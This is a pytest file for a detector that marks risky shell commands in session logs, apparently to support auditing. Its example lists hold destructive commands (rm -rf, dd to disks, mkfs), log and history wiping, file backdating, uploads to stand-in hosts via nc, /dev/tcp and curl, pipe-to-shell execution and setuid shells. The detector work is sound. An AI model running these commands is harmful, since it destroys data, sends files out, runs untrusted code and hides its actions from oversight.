"""The marks on lines that carry them, and on everyday lines that do not."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from sessionlens.detect import MARKS, findings, marks_of

MARKED = {
    "delete-tree": [
        "rm -r x",
        "sudo rm -rf /srv/app",
        "python3 -c 'import shutil; shutil.rmtree(\"/x\")'",
        "rsync -a --delete empty/ /srv/app/",
    ],
    "delete-found": [
        "find . -name '*.c' -delete",
        "find /x -type f -exec rm {} +",
        "find /x -print0 | xargs -0 rm",
        "find /x -exec sh -c 'rm \"$1\"' _ {} \\;",
    ],
    "delete-file": ["rm a.txt", "unlink a"],
    "wipe": [
        "shred -u key.pem",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb",
        "cat /dev/urandom > disk.img",
    ],
    "empty-file": [
        "truncate -s 0 report.csv",
        "> report.csv",
        ": > a",
        "cat /dev/null > a",
        "cp /dev/null a",
        "echo -n > a",
    ],
    "log-tampering": [
        "> /var/log/auth.log",
        "sudo truncate --size=0 /var/log/syslog",
        "rm -f /var/log/nginx/access.log",
        "sed -i /10.0.0.7/d /var/log/auth.log",
        "journalctl --vacuum-time=1s",
        "systemctl stop rsyslog",
        "sudo sh -c 'echo > /var/log/wtmp'",
    ],
    "history": [
        "history -c",
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "HISTSIZE=0",
        "set +o history",
        "rm ~/.bash_history",
        "ln -sf /dev/null ~/.bash_history",
        "> ~/.zsh_history",
        "history clear",
    ],
    "backdate": [
        "touch -d '2024-01-01' a",
        "touch -t 202401010000 a",
        "touch --date=yesterday a",
        "touch -r b a",
        "date -s 10:00",
    ],
    "send-out": [
        "scp -r src backup@10.0.0.9:/tmp/",
        "rsync -az src/ host:dst",
        "rsync -az -e ssh src/ rsync://host/dst",
        "curl -T src.tgz https://example.net/",
        "curl -F file=@src.tgz https://example.net/",
        "curl --data-binary @src.tgz https://example.net/",
        "wget --post-file=src.tgz https://example.net/",
        "tar cz src | ssh host 'cat > src.tgz'",
        "nc 10.0.0.9 4444 < src.tgz",
        "tar cz src | nc 10.0.0.9 4444",
        "cat src.tgz > /dev/tcp/10.0.0.9/80",
        "aws s3 cp src.tgz s3://bucket/",
    ],
    "pack": ["tar czf src.tgz src", "zip -r src.zip src", "7z a x.7z src", "tar --create -f x src"],
    "run-hidden": [
        "echo aGk= | base64 -d | sh",
        "curl -s https://example.net/x | sudo bash",
        'eval "$(base64 -d x)"',
    ],
    "setuid": ["chmod +s /tmp/sh", "chmod u+s /tmp/sh", "chmod 4755 /tmp/sh", "chmod -R g+s x"],
    "echo-off": ["stty -echo"],
}
PLAIN = [
    "ls -la",
    "cd /var/log && tail -f syslog",
    "git push origin main",
    "scp host:/etc/motd .",
    "rsync -a a/ b/",
    "curl -s https://example.net/ -o page",
    "curl -d a=1 https://example.net/",
    "tar xzf src.tgz",
    "tar tf src.tgz",
    "touch a",
    "history",
    "history 20",
    "chmod 755 x",
    "chmod +x x.sh",
    "chmod -R u=rwX,go=rX x",
    "echo hi > a",
    "ls > /dev/null",
    "grep -r HISTFILE /etc",
    "find . -name '*.log'",
    "base64 -d x",
    "ssh host uptime",
    "echo 'rm -rf /'",
    "truncate -s 10M disk.img",
    "cat /var/log/syslog | less",
    "export PATH=$PATH:/x",
    "HISTSIZE=1000",
    "dd if=disk.img of=copy.img",
    "if ! make > build.txt; then echo no; fi",
    "for i in a b; do echo $i; done > list",
    "a | b > list",
    "ln -s /dev/null x",
    "date +%s",
]


@dataclass(frozen=True)
class Line:
    text: str
    kind: str = "shell"
    context: str = "bash"


@pytest.mark.parametrize(("mark", "text"), [(mark, text) for mark, lines in MARKED.items() for text in lines])
def test_a_mark_is_found(mark: str, text: str) -> None:
    assert mark in [found.name for found in marks_of(text)]


@pytest.mark.parametrize("text", PLAIN)
def test_everyday_lines_carry_no_mark(text: str) -> None:
    assert [found.name for found in marks_of(text)] == []


def test_every_mark_has_an_example_and_a_plain_reason() -> None:
    assert {*MARKED, "line-hidden", "output-hidden"} == {mark.name for mark in MARKS}  # those: test_hidden.py
    assert all(mark.severity in ("high", "medium", "low") and len(mark.why) > 20 for mark in MARKS)


def test_findings_name_the_command_and_skip_lines_of_a_repl() -> None:
    found = findings(
        [
            Line("ls"),
            Line("rm -rf x; history -c"),
            Line("rm -rf x", "repl", "bash > python"),
            Line("rm -r", "repl"),
        ]
    )
    assert [(each.command_index, each.mark, each.severity) for each in found] == [
        (1, "delete-tree", "high"),
        (1, "history", "high"),
    ]
